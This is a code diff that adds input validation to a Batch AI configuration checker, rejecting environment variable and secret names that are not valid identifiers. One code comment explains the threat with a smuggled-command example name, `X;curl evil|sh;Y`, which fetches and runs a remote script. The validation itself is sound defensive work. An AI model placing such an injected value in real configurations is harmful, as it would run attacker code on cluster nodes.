@@ -220,12 +220,38 @@ def _type_fix(value: Any, expected: Any) -> str | None:
 def rule_problems(data: Mapping[str, Any], kind: Kind, *, file: str | None) -> Iterator[Problem]:
     """What Batch AI refused beyond its schema. Only called on schema-valid data."""
     props: Mapping[str, Any] = data.get("properties", {})
+    yield from _variable_name_rules(props, file)
     if kind == "job":
         yield from _job_rules(props, file)
     elif kind == "cluster":
         scale = props.get("scaleSettings")
         if isinstance(scale, Mapping) and ("manual" in scale) == ("autoScale" in scale):
             yield Problem(file, "properties.scaleSettings", "give exactly one of `manual` and `autoScale`")
+
+
+_VARIABLE_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
+# Where Batch AI files hold environment variables (the cluster's go into the pool's nodeSetup
+# as `export NAME=...` lines: a name like `X;curl evil|sh;Y` would be a command).
+_VARIABLE_LISTS = (
+    ("environmentVariables",),
+    ("secrets",),
+    ("nodeSetup", "setupTask", "environmentVariables"),
+    ("nodeSetup", "setupTask", "secrets"),
+)
+
+
+def _variable_name_rules(props: Mapping[str, Any], file: str | None) -> Iterator[Problem]:
+    for steps in _VARIABLE_LISTS:
+        entries = _get(props, list(steps))
+        for i, entry in enumerate(entries if isinstance(entries, list) else []):
+            name = entry.get("name") if isinstance(entry, Mapping) else None
+            if isinstance(name, str) and not _VARIABLE_NAME.match(name):
+                yield Problem(
+                    file,
+                    f"properties.{'.'.join(steps)}[{i}].name",
+                    f"{name!r} is not an environment variable name",
+                    "use letters, digits and `_`, not starting with a digit",
+                )
 
 
 def _job_rules(props: Mapping[str, Any], file: str | None) -> Iterator[Problem]:
